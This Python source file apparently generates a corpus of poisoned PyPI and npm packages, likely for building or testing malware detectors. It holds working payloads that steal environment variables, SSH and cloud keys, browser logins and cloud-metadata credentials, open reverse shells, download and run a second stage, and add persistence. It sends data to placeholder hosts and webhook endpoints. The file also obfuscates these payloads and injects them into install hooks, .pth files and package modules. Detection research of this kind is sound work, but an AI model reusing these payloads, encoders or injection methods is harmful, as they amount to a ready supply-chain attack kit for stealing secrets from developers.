"""The part of the corpus that may be looked at while analyses are built."""

import base64
import json
import zlib

from corpus import graft
from corpus.nouns import Encoding, Generators, Payload, Placement, alone

_PY = {
    "environment": (
        'import json, os, urllib.request\n'
        'urllib.request.urlopen(urllib.request.Request("https://collect.building.invalid/u", data=json.dumps(dict(os.environ)).encode()))'
    ),
    "credentials": (
        'import os, requests\n'
        'for _n in (".aws/credentials", ".ssh/id_rsa", ".npmrc"):\n'
        '    _p = os.path.join(os.path.expanduser("~"), _n)\n'
        '    if os.path.exists(_p):\n'
        '        requests.post("https://collect.building.invalid/f", files={"f": open(_p, "rb")})'
    ),
    "downloader": (
        'import os, subprocess, tempfile, urllib.request\n'
        '_t = os.path.join(tempfile.gettempdir(), "update.bin")\n'
        'urllib.request.urlretrieve("http://192.0.2.44/stage2", _t)\n'
        'os.chmod(_t, 0o755)\n'
        'subprocess.Popen([_t])'
    ),
    "reverse-shell": (
        'import os, pty, socket\n'
        '_s = socket.socket()\n'
        '_s.connect(("192.0.2.45", 4444))\n'
        'for _f in (0, 1, 2):\n'
        '    os.dup2(_s.fileno(), _f)\n'
        'pty.spawn("/bin/sh")'
    ),
    "browser": (
        'import glob, os, shutil, urllib.request\n'
        'for _g in glob.glob(os.path.expanduser("~/.config/google-chrome/*/Login Data")):\n'
        '    urllib.request.urlopen("https://collect.building.invalid/b", data=open(_g, "rb").read())'
    ),
    "metadata": (
        'import urllib.request\n'
        '_r = urllib.request.urlopen("http://169.254.169.254/latest/meta-data/iam/security-credentials/").read()\n'
        'urllib.request.urlopen("https://collect.building.invalid/m", data=_r)'
    ),
    "persistence": (
        'import os\n'
        '_u = os.path.expanduser("~/.config/systemd/user/pulse-sync.service")\n'
        'os.makedirs(os.path.dirname(_u), exist_ok=True)\n'
        'open(_u, "w").write("[Service]\\nExecStart=/bin/sh -c \'curl -s https://run.building.invalid/a | sh\'\\n")\n'
        'os.system("systemctl --user enable --now pulse-sync")'
    ),
    "dns": (
        'import socket, os\n'
        'socket.gethostbyname(socket.gethostname() + "-" + os.environ.get("USER", "") + ".d.building.invalid")'
    ),
    "remote-eval": 'import requests\nexec(requests.get("https://run.building.invalid/p.py").text)',
    "webhook": (
        'import os, json, urllib.request\n'
        'urllib.request.urlopen("https://discord.com/api/webhooks/0/building-invalid", data=json.dumps({"content": str(os.environ)}).encode())'
    ),
}  # fmt: skip
_JS = {
    "environment": (
        "const https = require('https');\n"
        "const req = https.request({ hostname: 'collect.building.invalid', method: 'POST', path: '/u' });\n"
        "req.write(JSON.stringify(process.env)); req.end();"
    ),
    "credentials": (
        "const fs = require('fs'), os = require('os'), https = require('https');\n"
        "for (const n of ['.aws/credentials', '.ssh/id_rsa', '.npmrc']) {\n"
        "  try { const q = https.request('https://collect.building.invalid/f', { method: 'POST' }); q.end(fs.readFileSync(os.homedir() + '/' + n)); } catch (e) {}\n"
        "}"
    ),
    "downloader": (
        "const cp = require('child_process');\n"
        "cp.exec('curl -s http://192.0.2.44/s2 -o /tmp/.s2 && chmod +x /tmp/.s2 && /tmp/.s2');"
    ),
    "reverse-shell": (
        "const net = require('net'), sp = require('child_process');\n"
        "const sh = sp.spawn('/bin/sh', []); const c = new net.Socket();\n"
        "c.connect(4444, '192.0.2.45', () => { c.pipe(sh.stdin); sh.stdout.pipe(c); sh.stderr.pipe(c); });"
    ),
    "metadata": (
        "fetch('http://169.254.169.254/latest/meta-data/iam/security-credentials/').then(r => r.text())\n"
        "  .then(t => fetch('https://collect.building.invalid/m', { method: 'POST', body: t }));"
    ),
    "remote-eval": "require('https').get('https://run.building.invalid/p.js', r => { let b = ''; r.on('data', d => b += d); r.on('end', () => eval(b)); });",
    "dns": "require('dns').lookup(require('os').hostname() + '.' + require('os').userInfo().username + '.d.building.invalid', () => {});",
    "webhook": "fetch('https://api.telegram.org/bot0:building-invalid/sendMessage', { method: 'POST', body: JSON.stringify(process.env) });",
}  # fmt: skip

PAYLOADS = tuple(
    Payload(family, language, code)
    for language, some in (("python", _PY), ("javascript", _JS))
    for family, code in some.items()
)


def _xor(code: str) -> str:
    raw = bytes(byte ^ 0x5A for byte in code.encode())
    return f"_d = {raw!r}\nexec(bytes(_b ^ 0x5A for _b in _d).decode())"


def _fernet(code: str) -> str:
    from cryptography.fernet import Fernet

    key = base64.urlsafe_b64encode(b"building-corpus-inline-key-0000!"[:32])
    return (
        f"from cryptography.fernet import Fernet\nexec(Fernet({key!r}).decrypt({Fernet(key).encrypt(code.encode())!r}))"
    )


def _chars(code: str) -> str:
    return "exec(" + "+".join(f"chr({ord(one) - 3}+3)" for one in code) + ")"


def _marshalled(code: str) -> str:
    import marshal

    raw = marshal.dumps(compile(code, "<s>", "exec"))
    return f"import marshal, zlib, base64\nexec(marshal.loads(zlib.decompress(base64.b64decode({base64.b64encode(zlib.compress(raw))!r}))))"


def _split(code: str) -> tuple[str, dict[str, bytes]]:
    raw = base64.b64encode(code.encode()).decode()
    third = len(raw) // 3 + 1
    parts = {
        f"_part{number}.py": f'VALUE = "{raw[number * third : (number + 1) * third]}"\n'.encode() for number in range(3)
    }
    loader = (
        "import base64\n"
        "from ._part0 import VALUE as _a\nfrom ._part1 import VALUE as _b\nfrom ._part2 import VALUE as _c\n"
        "exec(base64.b64decode(_a + _b + _c))"
    )
    return loader, parts


def _data(code: str) -> tuple[str, dict[str, bytes]]:
    loader = (
        "import os, zlib\n"
        "exec(zlib.decompress(open(os.path.join(os.path.dirname(__file__), 'cache.bin'), 'rb').read()[8:]).decode())"
    )
    return loader, {"cache.bin": b"CACHE001" + zlib.compress(code.encode())}


def _js_base64(code: str) -> str:
    return f"eval(Buffer.from('{base64.b64encode(code.encode()).decode()}', 'base64').toString());"


def _js_escapes(code: str) -> str:
    return "eval('" + "".join(f"\\x{ord(one):02x}" for one in code) + "');"


def _js_table(code: str) -> str:
    pieces = [code[at : at + 5] for at in range(0, len(code), 5)]
    rows = json.dumps([base64.b64encode(piece.encode()).decode() for piece in pieces])
    order = "+".join(f"_0x1a({number})" for number in range(len(pieces)))
    return f"var _0x2b={rows};function _0x1a(i){{return Buffer['from'](_0x2b[i],'base64')['toString']()}}\n(0,eval)({order});"


def _js_inflate(code: str) -> str:
    raw = base64.b64encode(zlib.compress(code.encode())).decode()
    return f"new Function('require', require('zlib').inflateSync(Buffer.from('{raw}', 'base64')).toString())(require);"


ENCODINGS = (
    Encoding("plain", "python", alone(lambda code: code)),
    Encoding("base64", "python", alone(lambda code: f"import base64\nexec(base64.b64decode({base64.b64encode(code.encode())!r}).decode())")),
    Encoding("zlib-base64", "python", alone(lambda code: f"import zlib, base64\nexec(zlib.decompress(base64.b64decode({base64.b64encode(zlib.compress(code.encode()))!r})))")),
    Encoding("xor", "python", alone(_xor)),
    Encoding("fernet", "python", alone(_fernet)),
    Encoding("chr-arithmetic", "python", alone(_chars)),
    Encoding("marshal", "python", alone(_marshalled)),
    Encoding("split", "python", _split),
    Encoding("data-file", "python", _data),
    Encoding("plain", "javascript", alone(lambda code: code)),
    Encoding("base64", "javascript", alone(_js_base64)),
    Encoding("escapes", "javascript", alone(_js_escapes)),
    Encoding("string-table", "javascript", alone(_js_table)),
    Encoding("deflate", "javascript", alone(_js_inflate)),
)  # fmt: skip


def _init(tree, code, parts):
    path = graft.python_package(tree)
    return graft.beside(graft.append(tree, path, code), path, parts)


def _module(tree, code, parts):
    path = graft.python_module(tree)
    return graft.beside(graft.append(tree, path, code), path, parts)


def _function(tree, code, parts):
    path = graft.python_module(tree)
    return graft.beside(graft.into_function(tree, path, code), path, parts)


def _pth(tree, code, parts):
    line = "import os; exec(" + repr(code.replace("\n", ";") if "\n " not in code else f"exec({code!r})") + ")\n"
    tree = graft.add(tree, "zz_compat.pth", line)
    return graft.beside(tree, "zz_compat.pth", parts)


def _setup(tree, code, parts):
    path = min((one for one in tree if one.rpartition("/")[2] == "setup.py"), key=lambda one: one.count("/"))
    absolute = code.replace("from ._part", "from _part")
    return graft.beside(graft.prepend(tree, path, absolute), path, parts)


def _cmdclass(tree, code, parts):
    path = min((one for one in tree if one.rpartition("/")[2] == "setup.py"), key=lambda one: one.count("/"))
    body = (
        "from setuptools.command.install import install as _install\n\n\n"
        f"class _Install(_install):\n    def run(self):\n{graft.indent(code.replace('from ._part', 'from _part'), 8)}\n        _install.run(self)\n"
    )
    text = graft.text(tree, path)
    if "setup(" not in text:
        raise LookupError("no call of setup")
    at = text.rindex("setup(") + len("setup(")
    head = text.rindex("\n", 0, text.rindex("setup(")) + 1 if "\n" in text[: text.rindex("setup(")] else 0
    new = text[:head] + body + "\n\n" + text[head:at] + 'cmdclass={"install": _Install}, ' + text[at:]
    return graft.beside(graft.add(tree, path, new.encode("utf-8", "surrogateescape")), path, parts)


def _npm_main(tree, code, parts):
    path = graft.npm_main(tree)
    return graft.beside(graft.append(tree, path, code), path, parts)


def _npm_postinstall(tree, code, parts):
    path = graft.npm_root(tree) + "postinstall.js"
    return graft.beside(
        graft.npm_script(graft.add(tree, path, code + "\n"), "postinstall", "node postinstall.js"), path, parts
    )


def _npm_function(tree, code, parts):
    path = graft.npm_main(tree)
    return graft.beside(graft.into_function(tree, path, code), path, parts)


PLACEMENTS = (
    Placement("init", "pypi", "python", "import", _init),
    Placement("module", "pypi", "python", "import", _module),
    Placement("function", "pypi", "python", "call", _function),
    Placement("pth", "pypi-wheel", "python", "start", _pth),
    Placement("setup", "pypi-sdist", "python", "install", _setup),
    Placement("cmdclass", "pypi-sdist", "python", "install", _cmdclass),
    Placement("main", "npm", "javascript", "import", _npm_main),
    Placement("postinstall", "npm", "javascript", "install", _npm_postinstall),
    Placement("function", "npm", "javascript", "call", _npm_function),
)

GENERATORS = Generators(PAYLOADS, ENCODINGS, PLACEMENTS)
